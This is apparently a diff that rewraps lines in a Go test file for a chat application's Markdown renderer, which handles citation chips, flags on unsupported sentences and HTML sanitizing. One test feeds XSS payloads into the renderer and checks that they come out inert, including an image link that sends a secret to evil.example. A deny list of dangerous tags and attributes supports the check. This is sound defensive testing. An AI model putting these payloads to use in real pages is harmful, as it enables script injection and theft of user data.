@@ -14,7 +14,10 @@ func citeOne(n int) (chat.Citation, bool) {
 	if n > 2 {
 		return chat.Citation{}, false
 	}
-	return chat.Citation{Number: n, DocumentID: "d1", Title: `A "title" <img src=x onerror=alert(1)>`, Page: 4, URL: "/d/d1?c=run.1", Check: chat.CheckVerified}, true
+	return chat.Citation{
+		Number: n, DocumentID: "d1", Title: `A "title" <img src=x onerror=alert(1)>`, Page: 4, URL: "/d/d1?c=run.1",
+		Check: chat.CheckVerified,
+	}, true
 }
 
 func whole(t *testing.T, src string, unsupported ...string) string {
@@ -39,16 +42,19 @@ func harm(t *testing.T, doc string) []string {
 			continue
 		}
 		switch n.Data {
-		case "script", "style", "iframe", "object", "embed", "img", "video", "audio", "base", "meta", "form", "input", "svg", "math":
+		case "script", "style", "iframe", "object", "embed", "img", "video", "audio", "base", "meta", "form", "input",
+			"svg", "math":
 			found = append(found, "<"+n.Data+">")
 		}
 		for _, a := range n.Attr {
 			name := strings.ToLower(a.Key)
 			value := strings.ToLower(strings.TrimSpace(a.Val))
 			switch {
-			case strings.HasPrefix(name, "on"), strings.HasPrefix(name, "hx-"), name == "style", name == "src", name == "srcset":
+			case strings.HasPrefix(name, "on"), strings.HasPrefix(name, "hx-"), name == "style", name == "src",
+				name == "srcset":
 				found = append(found, name+"="+a.Val)
-			case name == "href" && !strings.HasPrefix(value, "/d/") && !strings.HasPrefix(value, "/leave?to=http") && !strings.HasPrefix(value, "mailto:"):
+			case name == "href" && !strings.HasPrefix(value, "/d/") && !strings.HasPrefix(value, "/leave?to=http") &&
+				!strings.HasPrefix(value, "mailto:"):
 				found = append(found, name+"="+a.Val)
 			}
 		}
@@ -59,10 +65,14 @@ func harm(t *testing.T, doc string) []string {
 func TestHostileAnswersDoNothing(t *testing.T) {
 	for _, src := range []string{
 		`<script>alert(1)</script>`, `<img src=x onerror=alert(1)>`, `![secret words](https://evil.example/?q=secret)`,
-		`[click](javascript:alert(1)) [b](data:text/html,x) [c](vbscript:x)`, `<div hx-get="/agent" hx-trigger=load hx-on:click="x">x</div>`,
-		`<iframe src=//evil.example></iframe>`, `<a href="x" onclick="alert(1)">x</a>`, "```html\n<img src=x onerror=alert(1)>", `<svg/onload=alert(1)>`,
-		"| a |\n|---|\n| <img src=x onerror=alert(1)> |", `[x]: javascript:alert(1)` + "\n\n[x]", `<style>*{background:url(//evil.example)}</style>`,
-		"~~~\" onmouseover=\"alert(1)\nx\n~~~", "\uE0001\uE001<b onclick=x>", "![a][b]\n\n[b]: http://evil.example/x.png", "[1] <form action=/chat><input name=message></form>",
+		`[click](javascript:alert(1)) [b](data:text/html,x) [c](vbscript:x)`,
+		`<div hx-get="/agent" hx-trigger=load hx-on:click="x">x</div>`,
+		`<iframe src=//evil.example></iframe>`, `<a href="x" onclick="alert(1)">x</a>`,
+		"```html\n<img src=x onerror=alert(1)>", `<svg/onload=alert(1)>`,
+		"| a |\n|---|\n| <img src=x onerror=alert(1)> |", `[x]: javascript:alert(1)` + "\n\n[x]",
+		`<style>*{background:url(//evil.example)}</style>`,
+		"~~~\" onmouseover=\"alert(1)\nx\n~~~", "\uE0001\uE001<b onclick=x>",
+		"![a][b]\n\n[b]: http://evil.example/x.png", "[1] <form action=/chat><input name=message></form>",
 		"<hx-partial hx-target=body><p>gone</p></hx-partial>", "<math><mtext><script>alert(1)</script></mtext></math>",
 	} {
 		if found := harm(t, whole(t, src)); len(found) > 0 {
@@ -73,22 +83,28 @@ func TestHostileAnswersDoNothing(t *testing.T) {
 
 func TestMarkdownOfAnswers(t *testing.T) {
 	for _, tt := range []struct{ name, src, want string }{
-		{"a number becomes a chip that sticks to its word", "Sound [1].", `Sound` + "\u2060" + `<a class="cite" href="/d/d1?c=run.1#cited"`},
+		{"a number becomes a chip that sticks to its word", "Sound [1].",
+			`Sound` + "\u2060" + `<a class="cite" href="/d/d1?c=run.1#cited"`},
 		{"two numbers in a row are two chips", "Sound [1][2].", `data-n="2"`},
-		{"a chip names its place for screen readers, title and all", "x [1]", `aria-label="Source 1: A &#34;title&#34; &lt;img src=x onerror=alert(1)&gt;, page 4"`},
+		{"a chip names its place for screen readers, title and all", "x [1]",
+			`aria-label="Source 1: A &#34;title&#34; &lt;img src=x onerror=alert(1)&gt;, page 4"`},
 		{"a number without a citation stays text", "See [7].", "See [7]."},
 		{"a number in code stays text", "`a[1]`", "<code>a[1]</code>"},
-		{"a link with a number as its text stays a link", "[1](https://example.org)", `>1</a> <bdi class="host">(example.org)</bdi>`},
+		{"a link with a number as its text stays a link", "[1](https://example.org)",
+			`>1</a> <bdi class="host">(example.org)</bdi>`},
 		{"an image becomes its description", "![a chart](http://evil.example/x.png)", "<em>a chart</em>"},
 		{"headings stand under the question", "# Title", "<h3>Title</h3>"},
 		{"tables scroll by themselves and keep their alignment", "|a|b|\n|-|-:|\n|1|2|", `<td align="right">2</td>`},
-		{"code has its language and a copy button", "```go\nx := 1\n```", `<span>go</span><button class="btn bare small" type="button" data-do="copy">`},
+		{"code has its language and a copy button", "```go\nx := 1\n```",
+			`<span>go</span><button class="btn bare small" type="button" data-do="copy">`},
 		{"maths stays readable", `$\frac{1}{n}\sum x_i$ and $a_1 + b_1$`, `$\frac{1}{n}\sum x_i$ and $a_1 + b_1$`},
 		{"a list of tasks says what is done", "- [ ] open\n- [x] done", "\u2611\ufe0e done"},
-		{"a tag is text: words of a document don't vanish", "A map of <K, V> or <T>.", "A map of &lt;K, V&gt; or &lt;T&gt;."},
+		{"a tag is text: words of a document don't vanish", "A map of <K, V> or <T>.",
+			"A map of &lt;K, V&gt; or &lt;T&gt;."},
 		{"a block of tags is text", "<div>\nThe *roof*\n</div>", "<p>&lt;div&gt;\nThe *roof*\n&lt;/div&gt;"},
 		{"private characters are characters like others", "\uE0001\uE001 \uE002", "<p>\uE0001\uE001 \uE002</p>"},
-		{"an element of ours in the text is text", `<fn-chip n="1"></fn-chip> <fn-note></fn-note>`, "&lt;fn-note&gt;&lt;/fn-note&gt;"},
+		{"an element of ours in the text is text", `<fn-chip n="1"></fn-chip> <fn-note></fn-note>`,
+			"&lt;fn-note&gt;&lt;/fn-note&gt;"},
 	} {
 		t.Run(tt.name, func(t *testing.T) {
 			if got := whole(t, tt.src); !strings.Contains(got, tt.want) {
@@ -99,7 +115,8 @@ func TestMarkdownOfAnswers(t *testing.T) {
 }
 
 func TestTheCitationsOfUnsupportedSentencesAreDoubted(t *testing.T) {
-	got := Doubted("The roof leaks [1]. Two is here [2] and there.[3] Three [4].", []string{"Two is here and there.", "Not there."})
+	got := Doubted("The roof leaks [1]. Two is here [2] and there.[3] Three [4].",
+		[]string{"Two is here and there.", "Not there."})
 	if len(got) != 2 || !got[2] || !got[3] {
 		t.Errorf("doubted: %v, want 2", got)
 	}
@@ -107,8 +124,10 @@ func TestTheCitationsOfUnsupportedSentencesAreDoubted(t *testing.T) {
 
 func TestOnlyAMarkInRunningTextIsAFootnote(t *testing.T) {
 	for src, want := range map[string]int{
-		"It leaks [1], says the survey[2].": 2, "See https://x.org/a[2] [1].": 1, "[a](http://x.org/[2]) [1]": 1, `[a](http://x.org "b [2]") [1]`: 1,
-		"Set a[1] and max_size[2].": 0, "`a [1]` [2]": 1, "So:\n\n    b [1]\n\nIt leaks [2].": 1, "<https://x.org/[2]> [1]": 1, "![a](b[2]) [1]": 1,
+		"It leaks [1], says the survey[2].": 2, "See https://x.org/a[2] [1].": 1, "[a](http://x.org/[2]) [1]": 1,
+		`[a](http://x.org "b [2]") [1]`: 1,
+		"Set a[1] and max_size[2].":     0, "`a [1]` [2]": 1, "So:\n\n    b [1]\n\nIt leaks [2].": 1,
+		"<https://x.org/[2]> [1]": 1, "![a](b[2]) [1]": 1,
 	} {
 		if got := strings.Count(whole(t, src), `class="cite"`); got != want {
 			t.Errorf("%q has %d footnotes on the page, want %d", src, got, want)
@@ -118,21 +137,31 @@ func TestOnlyAMarkInRunningTextIsAFootnote(t *testing.T) {
 
 func TestUnsupportedSentencesAreMarked(t *testing.T) {
 	for _, tt := range []struct{ name, src, sentence, want string }{
-		{"a plain sentence is underlined and flagged", "One. Two is here.", "Two is here.", `<span class="unsupported">Two is here.</span><span class="flag">`},
-		{"a list item is found without its dash", "- One\n- Two is here.", "- Two is here.", `<li><span class="unsupported">Two is here.</span><span class="flag">`},
-		{"marks that cross only get the flag", "**One. Two** is here.", "Two** is here.", `One. Two</strong> is here.<span class="flag">`},
-		{"the flag stands behind the sentence's chips", "Two is here [1]. Three.", "Two is here", `</a>.</span><span class="flag">` + txtNotInSource},
+		{"a plain sentence is underlined and flagged", "One. Two is here.", "Two is here.",
+			`<span class="unsupported">Two is here.</span><span class="flag">`},
+		{"a list item is found without its dash", "- One\n- Two is here.", "- Two is here.",
+			`<li><span class="unsupported">Two is here.</span><span class="flag">`},
+		{"marks that cross only get the flag", "**One. Two** is here.", "Two** is here.",
+			`One. Two</strong> is here.<span class="flag">`},
+		{"the flag stands behind the sentence's chips", "Two is here [1]. Three.", "Two is here",
+			`</a>.</span><span class="flag">` + txtNotInSource},
 		{"a sentence with a chip keeps it", "Two is here [1].", "Two is here [1].", `</a>.</span><span class="flag">`},
-		{"a footnote before the full stop", "One. Two is here [1]. Three.", "Two is here.", `</a>.</span><span class="flag">` + txtNotInSource},
-		{"a footnote behind it without a space", "One.[1] Two is here.[1] Three.", "Two is here.", `</a></span><span class="flag">` + txtNotInSource},
-		{"several footnotes", "Two is here [1][1] and there [1].", "Two is here and there.", `</a>.</span><span class="flag">` + txtNotInSource},
+		{"a footnote before the full stop", "One. Two is here [1]. Three.", "Two is here.",
+			`</a>.</span><span class="flag">` + txtNotInSource},
+		{"a footnote behind it without a space", "One.[1] Two is here.[1] Three.", "Two is here.",
+			`</a></span><span class="flag">` + txtNotInSource},
+		{"several footnotes", "Two is here [1][1] and there [1].", "Two is here and there.",
+			`</a>.</span><span class="flag">` + txtNotInSource},
 		{"a list item", "- One [1]\n- Two is here [1].", "Two is here.", `<li><span class="unsupported">Two is here`},
 		{"in bold", "**Two is here [1].** Three.", "Two is here.", `</a>.</span><span class="flag">`},
-		{"behind bold", "One. **Two is here.** [1] Three.", "Two is here.", `<span class="unsupported"><strong>Two is here.</strong>`},
+		{"behind bold", "One. **Two is here.** [1] Three.", "Two is here.",
+			`<span class="unsupported"><strong>Two is here.</strong>`},
 		{"over two lines", "Two\nis here [1].", "Two is here.", `</a>.</span><span class="flag">`},
 		{"not within a longer word", "Ourmen left. men left [1].", "men left.", `</p>` + "\n"},
-		{"one that breaks off, not the one that begins alike", "Two is here and there [1]. Two is here", "Two is here", `. <span class="unsupported">Two is here</span>`},
-		{"a row of a table", "| A | B |\n|---|---|\n| Two | here [1] |", "Two | here |", `</a><span class="flag">` + txtNotInSource + `</span></td>`},
+		{"one that breaks off, not the one that begins alike", "Two is here and there [1]. Two is here", "Two is here",
+			`. <span class="unsupported">Two is here</span>`},
+		{"a row of a table", "| A | B |\n|---|---|\n| Two | here [1] |", "Two | here |",
+			`</a><span class="flag">` + txtNotInSource + `</span></td>`},
 	} {
 		t.Run(tt.name, func(t *testing.T) {
 			if got := whole(t, tt.src, tt.sentence); !strings.Contains(got, tt.want) {
@@ -161,7 +190,8 @@ func TestATableIsShownWhenItIsOne(t *testing.T) {
 
 // Whatever way an answer is cut into deltas, the blocks at its end are those of the whole.
 func TestStreamedBlocksAreThoseOfTheWhole(t *testing.T) {
-	src := "First paragraph with [1] and **bold** words.\n\n## Heading\n\n- one\n- two [2]\n\n  still two\n- three\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n\n" +
+	src := "First paragraph with [1] and **bold** words.\n\n## Heading\n\n- one\n- two [2]\n\n  still two\n- " +
+		"three\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n\n" +
 		"```go\nfunc main() {\n\n}\n```\n\n> quoted\n> more\n\n1. first\n2. second\n\nLast words."
 	m := NewMarkdown()
 	want := m.Whole(src, nil, citeOne)
@@ -198,7 +228,8 @@ func TestASourceWhoseSentenceIsNotSupportedSaysSo(t *testing.T) {
 		if err := sources(&Turn{Final: &final}).Render(t.Context(), &b); err != nil {
 			t.Fatal(err)
 		}
-		if got := strings.Contains(b.String(), txtDoubted); got != (unsupported != nil) || !strings.Contains(b.String(), "Verified") {
+		if got := strings.Contains(b.String(), txtDoubted); got != (unsupported != nil) ||
+			!strings.Contains(b.String(), "Verified") {
 			t.Errorf("with %q: %s, want %q in it", unsupported, b.String(), "Verified")
 		}
 	}
@@ -222,7 +253,8 @@ func TestNotesOnAnAnswerStandUnderIt(t *testing.T) {
 		}
 		_, list, found := strings.Cut(b.String(), `data-testid="answer-notes">`)
 		list, _, _ = strings.Cut(list, "</ul>")
-		if n := strings.Count(list, "<li"); found != (tt.items > 0) || n != tt.items || !strings.Contains(list, tt.last+"</li>") && tt.items > 0 {
+		if n := strings.Count(list, "<li"); found != (tt.items > 0) || n != tt.items ||
+			!strings.Contains(list, tt.last+"</li>") && tt.items > 0 {
 			t.Errorf("%d notes: %d items, want %d, the last of them %q:\n%s", len(tt.notes), n, tt.items, tt.last, list)
 		}
 	}
